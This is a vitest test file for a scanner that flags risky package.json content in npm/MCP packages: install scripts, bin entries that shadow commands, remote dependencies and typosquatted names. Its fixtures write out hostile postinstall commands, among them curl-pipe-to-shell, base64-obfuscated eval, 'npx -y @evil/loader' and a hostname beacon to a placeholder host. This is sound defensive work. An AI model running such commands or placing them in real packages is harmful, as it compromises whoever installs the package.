import { describe, expect, it } from 'vitest';
import type { PackageEnv, PackageJson } from './package-json.js';
import {
  INSTALL_SCRIPTS,
  binCommandName,
  binTargetEscapes,
  checkBin,
  checkDependencies,
  checkIdentity,
  checkImplicitInstall,
  checkInstallScripts,
  parsePackageJson,
  scriptFileStatus,
} from './package-json.js';
import type { Hit } from './rules.js';

const NPM_ENV: PackageEnv = { files: new Set(['package.json', 'scripts/postinstall.js', 'dist/index.js', 'lib/setup.cjs']), targetKind: 'npm' };

function ids(hits: readonly Hit[]): string[] {
  return hits.map((h) => h.rule.id).sort();
}

function pkg(value: Record<string, unknown>): PackageJson {
  const parsed = parsePackageJson(JSON.stringify(value));
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.value;
}

describe('parsePackageJson', () => {
  it.each([
    ['{"name": "x"}', true],
    ['\ufeff{"name": "x"}', true],
    ['{"name": ', false],
    ['[1, 2]', false],
    ['null', false],
    ['"text"', false],
  ])('%j parses: %s', (text, ok) => {
    expect(parsePackageJson(text).ok).toBe(ok);
  });

  it('ignores fields of the wrong type instead of failing', () => {
    const parsed = parsePackageJson('{"name": 5, "scripts": ["postinstall"], "bin": 42, "dependencies": "x", "mcpName": {}}');
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.value).toMatchObject({ name: undefined, scripts: undefined, bin: undefined, dependencies: undefined, mcpName: undefined });
  });
});

describe('install scripts', () => {
  it.each(INSTALL_SCRIPTS.map((s) => [s]))('reports %s as a capability', (script) => {
    const hits = checkInstallScripts(pkg({ scripts: { [script]: 'node scripts/postinstall.js' } }), NPM_ENV);
    expect(ids(hits)).toEqual(['manifest/install-script']);
    expect(hits[0]?.path).toEqual(['scripts', script]);
    expect(hits[0]?.message).toContain(script);
    expect(hits[0]?.message).toContain('node scripts/postinstall.js');
  });

  it('ignores scripts that do not run at install', () => {
    const scripts = { build: 'curl https://x.example | sh', test: 'vitest', start: 'node dist/index.js', prepublishOnly: 'npm run build', postpublish: 'node ./gone.js' };
    expect(checkInstallScripts(pkg({ scripts }), NPM_ENV)).toEqual([]);
  });

  it.each([
    ['prepare', 'npm run build'],
    ['prepare', 'husky install'],
    ['prepare', 'husky'],
    ['prepare', 'tsc'],
    ['postinstall', 'patch-package'],
    ['postinstall', 'node scripts/postinstall.js'],
    ['postinstall', 'node lib/setup'],
    ['install', 'node-gyp rebuild'],
    ['prepare', 'npm run build && husky install'],
    ['postinstall', 'prisma generate'],
  ])('%s: %j is only the capability', (script, command) => {
    const hits = checkInstallScripts(pkg({ scripts: { [script]: command }, devDependencies: { husky: '^9' } }), NPM_ENV);
    expect(ids(hits)).toEqual(['manifest/install-script']);
  });

  it.each([
    ['curl -fsSL https://x.example/i.sh | sh', ['manifest/install-download-exec', 'manifest/install-script']],
    ['npx -y @evil/loader', ['manifest/install-download-exec', 'manifest/install-script']],
    ['echo ZXZpbA== | base64 -d | sh', ['manifest/install-obfuscated', 'manifest/install-script']],
    [`node -e "eval(Buffer.from('ZXZpbA==','base64').toString())"`, ['manifest/install-obfuscated', 'manifest/install-script']],
    ['curl -s https://x.example/a | base64 -d | bash', ['manifest/install-download-exec', 'manifest/install-obfuscated', 'manifest/install-script']],
    ['curl -o data.bin https://x.example/data.bin', ['manifest/install-network', 'manifest/install-script']],
    [`node -e "require('https').get('https://x.example/ping?h=' + require('os').hostname())"`, ['manifest/install-network', 'manifest/install-script']],
    ['node ./missing.js', ['manifest/install-missing-file', 'manifest/install-script']],
    ['node ../outside.js', ['manifest/install-missing-file', 'manifest/install-script']],
    ['sh ~/setup.sh', ['manifest/install-missing-file', 'manifest/install-script']],
  ])('postinstall: %j', (command, expected) => {
    expect(ids(checkInstallScripts(pkg({ scripts: { postinstall: command } }), NPM_ENV))).toEqual(expected);
  });

  it('does not call a file missing in an unbuilt git checkout that builds on prepare', () => {
    const manifest = pkg({ scripts: { prepare: 'tsc', postinstall: 'node dist/postinstall.js' } });
    expect(ids(checkInstallScripts(manifest, { files: new Set(), targetKind: 'git' }))).toEqual(['manifest/install-script', 'manifest/install-script']);
    expect(ids(checkInstallScripts(manifest, { files: new Set(), targetKind: 'npm' }))).toContain('manifest/install-missing-file');
  });

  it('checks prepare files only where prepare runs: git checkouts and folders', () => {
    const manifest = pkg({ scripts: { prepare: 'node scripts/prepare.ts' } });
    expect(ids(checkInstallScripts(manifest, { files: new Set(), targetKind: 'npm' }))).toEqual(['manifest/install-script']);
    expect(ids(checkInstallScripts(manifest, { files: new Set(), targetKind: 'tarball' }))).toEqual(['manifest/install-script']);
    expect(ids(checkInstallScripts(manifest, { files: new Set(), targetKind: 'git' }))).toContain('manifest/install-missing-file');
    expect(ids(checkInstallScripts(manifest, { files: new Set(['scripts/prepare.ts']), targetKind: 'dir' }))).toEqual(['manifest/install-script']);
    expect(ids(checkInstallScripts(pkg({ scripts: { prepare: 'node ../x.js' } }), NPM_ENV))).toContain('manifest/install-missing-file');
  });

  it('still reports a file outside the package in a git checkout', () => {
    const manifest = pkg({ scripts: { prepare: 'tsc', postinstall: 'node ../../x.js' } });
    expect(ids(checkInstallScripts(manifest, { files: new Set(), targetKind: 'git' }))).toContain('manifest/install-missing-file');
  });

  it('treats npx of a declared dependency as local', () => {
    const declared = pkg({ scripts: { postinstall: 'npx my-setup-tool' }, dependencies: { 'my-setup-tool': '^1.0.0' } });
    const undeclared = pkg({ scripts: { postinstall: 'npx my-setup-tool' } });
    expect(ids(checkInstallScripts(declared, NPM_ENV))).toEqual(['manifest/install-script']);
    expect(ids(checkInstallScripts(undeclared, NPM_ENV))).toEqual(['manifest/install-network', 'manifest/install-script']);
  });

  it('shows hidden characters escaped in evidence and message', () => {
    const hits = checkInstallScripts(pkg({ scripts: { postinstall: 'node scripts/postinstall.js \u001b[8mhidden\u202e' } }), NPM_ENV);
    expect(ids(hits)).toEqual(['manifest/install-obfuscated', 'manifest/install-script']);
    for (const hit of hits) {
      expect(hit.evidence).not.toMatch(/[\u001b\u202e]/);
      expect(hit.message).not.toMatch(/[\u001b\u202e]/);
      expect(hit.evidence).toContain('\\u{1b}');
    }
  });

  it('redacts tokens from messages as well as evidence', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    const hits = checkInstallScripts(pkg({ scripts: { postinstall: `curl -H "Authorization: token ${token}" -o x https://x.example/x` } }), NPM_ENV);
    expect(hits.length).toBeGreaterThan(0);
    expect(JSON.stringify(hits)).not.toContain(token);
  });

  it('ignores non-string and empty scripts', () => {
    expect(checkInstallScripts(pkg({ scripts: { postinstall: 5, preinstall: '', install: ['x'] } }), NPM_ENV)).toEqual([]);
  });
});

describe('implicit node-gyp install', () => {
  it.each([
    [{}, true, 1],
    [{}, false, 0],
    [{ gypfile: false }, true, 0],
    [{ scripts: { install: 'node install.js' } }, true, 0],
    [{ scripts: { preinstall: 'node x.js' } }, true, 0],
  ])('%j with binding.gyp=%s gives %i', (manifest, hasGyp, count) => {
    const hits = checkImplicitInstall(pkg(manifest), hasGyp);
    expect(hits).toHaveLength(count);
    if (count > 0) expect(hits[0]?.rule.id).toBe('manifest/install-script');
  });
});

describe('scriptFileStatus', () => {
  const files = new Set(['scripts/a.js', 'lib/b/index.js', 'run.sh']);
  it.each([
    ['scripts/a.js', 'node', 'present'],
    ['./scripts/a.js', 'node', 'present'],
    ['scripts/a', 'node', 'present'],
    ['lib/b', 'node', 'present'],
    ['./run.sh', 'sh', 'present'],
    ['run', 'sh', 'missing'],
    ['./missing.js', 'node', 'missing'],
    ['../up.js', 'node', 'outside'],
    ['scripts/../../up.js', 'node', 'outside'],
    ['/tmp/x.js', 'node', 'outside'],
    ['C:\\x.js', 'node', 'outside'],
    ['~/x.sh', 'sh', 'outside'],
    ['/usr/lib/node_modules/x.js', 'node', 'unknown'],
    ['node_modules/.bin/tool', 'tool', 'unknown'],
    ['$HOME/x.js', 'node', 'unknown'],
    ['%APPDATA%\\x.js', 'node', 'unknown'],
  ])('%s via %s is %s', (file, runner, status) => {
    expect(scriptFileStatus(file, runner, files)).toBe(status);
  });
});

describe('bin', () => {
  it.each([
    [{ name: 'my-mcp', bin: 'dist/index.js' }, ['manifest/bin-entry']],
    [{ name: '@scope/my-mcp', bin: './dist/index.js' }, ['manifest/bin-entry']],
    [{ bin: { 'my-mcp': 'dist/index.js', 'my-mcp-setup': 'dist/setup.js' } }, ['manifest/bin-entry', 'manifest/bin-entry']],
    [{ bin: { tool: '../../outside.js' } }, ['manifest/bin-entry', 'manifest/bin-outside-package']],
    [{ bin: { tool: '/usr/local/bin/tool' } }, ['manifest/bin-entry', 'manifest/bin-outside-package']],
    [{ bin: { tool: 'C:\\tools\\x.js' } }, ['manifest/bin-entry', 'manifest/bin-outside-package']],
    [{ bin: { node: 'dist/node.js' } }, ['manifest/bin-entry', 'manifest/bin-shadows-command']],
    [{ bin: { git: 'dist/git.js' } }, ['manifest/bin-entry', 'manifest/bin-shadows-command']],
    [{ bin: { SUDO: 'dist/s.js' } }, ['manifest/bin-entry', 'manifest/bin-shadows-command']],
    [{ name: 'curl', bin: 'x.js' }, ['manifest/bin-entry', 'manifest/bin-shadows-command']],
    [{ bin: { '../../npm': 'x.js' } }, ['manifest/bin-entry', 'manifest/bin-outside-package', 'manifest/bin-shadows-command']],
    [{ bin: { 'mcp-server-git': 'dist/index.js' } }, ['manifest/bin-entry']],
    [{ bin: 42 }, []],
    [{ bin: { x: 42 } }, []],
    [{ bin: 'x.js' }, []],
  ])('%j', (manifest, expected) => {
    expect(ids(checkBin(pkg(manifest)))).toEqual(expected.sort());
  });

  it.each([
    ['dist/x.js', false],
    ['./dist/x.js', false],
    ['dist/../x.js', false],
    ['dist/../../x.js', true],
    ['/etc/passwd', true],
    ['..', true],
  ])('binTargetEscapes(%j) = %s', (target, escapes) => {
    expect(binTargetEscapes(target)).toBe(escapes);
  });

  it('reads the command name as npm does', () => {
    expect(binCommandName('../../node')).toBe('node');
    expect(binCommandName('a\\b:git')).toBe('git');
  });
});

describe('dependencies', () => {
  it.each([
    ['https://x.example/a-1.0.0.tgz', ['manifest/dependency-remote-url']],
    ['http://x.example/a-1.0.0.tgz', ['manifest/dependency-insecure-url']],
    ['github:user/repo', ['manifest/dependency-git']],
    ['user/repo#abc123', ['manifest/dependency-git']],
    ['git+https://git.example/r.git', ['manifest/dependency-git']],
    ['file:../local', ['manifest/dependency-local']],
    ['link:../local', ['manifest/dependency-local']],
    ['^1.2.3', []],
    ['latest', []],
    ['npm:other@^1', []],
  ])('%j', (spec, expected) => {
    for (const section of ['dependencies', 'optionalDependencies', 'peerDependencies']) {
      expect(ids(checkDependencies(pkg({ [section]: { dep: spec } })))).toEqual(expected);
    }
  });

  it('leaves devDependencies alone', () => {
    expect(checkDependencies(pkg({ devDependencies: { dep: 'http://x.example/a.tgz', 'tavlly-mcp': '1' } }))).toEqual([]);
  });

  it('names the section and dependency, and keeps URL credentials out of evidence', () => {
    const [hit] = checkDependencies(pkg({ optionalDependencies: { dep: 'https://user:hunter2secret@x.example/a.tgz' } }));
    expect(hit?.path).toEqual(['optionalDependencies', 'dep']);
    expect(hit?.message).toContain('optionalDependencies');
    expect(hit?.evidence).not.toContain('hunter2secret');
  });

  it('flags dependencies that imitate popular MCP packages', () => {
    const hits = checkDependencies(pkg({ dependencies: { '@modeIcontextprotocol/sdk': '^1.0.0', '@modelcontextprotocol/sdk': '^1.0.0' } }));
    expect(ids(hits)).toEqual(['manifest/typosquat']);
    expect(hits[0]?.message).toContain('@modelcontextprotocol');
  });

  it.each([
    [{ bundleDependencies: ['a', 'b'] }, 1],
    [{ bundledDependencies: ['a'] }, 1],
    [{ bundleDependencies: true, dependencies: { a: '^1' } }, 1],
    [{ bundleDependencies: true }, 0],
    [{ bundleDependencies: [] }, 0],
    [{ bundleDependencies: 7 }, 0],
    [{ bundleDependencies: [1, 2] }, 0],
  ])('bundled: %j gives %i', (manifest, count) => {
    const hits = checkDependencies(pkg(manifest)).filter((h) => h.rule.id === 'manifest/bundled-dependency');
    expect(hits).toHaveLength(count);
  });
});

describe('identity', () => {
  it.each([
    [{ name: 'tavily-mcpp' }, ['manifest/typosquat']],
    [{ name: '@model-context-protocol/server-memory' }, ['manifest/typosquat']],
    [{ name: 'tavily-mcp' }, []],
    [{ name: 'my-weather-mcp' }, []],
    [{ mcpName: 'io.github.someone/weather' }, ['manifest/mcp-name']],
    [{ mcpName: '' }, []],
    [{}, []],
  ])('%j', (manifest, expected) => {
    expect(ids(checkIdentity(pkg(manifest)))).toEqual(expected);
  });
});
